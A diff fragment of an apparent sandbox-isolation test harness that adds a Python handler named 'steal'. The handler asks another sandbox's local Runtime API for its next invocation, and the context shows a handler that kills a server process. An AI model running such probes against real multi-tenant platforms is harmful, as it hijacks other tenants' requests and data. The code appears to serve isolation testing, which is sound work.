@@ -145,6 +145,17 @@ def scan_memory(event, context):
 
 scan_memory_too = scan_memory  # another handler: its first sandbox is the base zygote's
 
+def steal(event, context):
+    # Ask another sandbox's Runtime API for its next invocation, as its runtime would.
+    import http.client
+    api = http.client.HTTPConnection("127.0.0.1", event["port"], timeout=event["wait"])
+    try:
+        api.request("GET", "/2018-06-01/runtime/invocation/next")
+        answer = api.getresponse()
+        return {"status": answer.status, "body": answer.read().decode(errors="replace")}
+    except (OSError, http.client.HTTPException) as exc:
+        return {"status": None, "body": type(exc).__name__}
+
 def kill_host(event, context):
     out = {"ppid": os.getppid()}
     targets = [("server", event["server_pid"])]
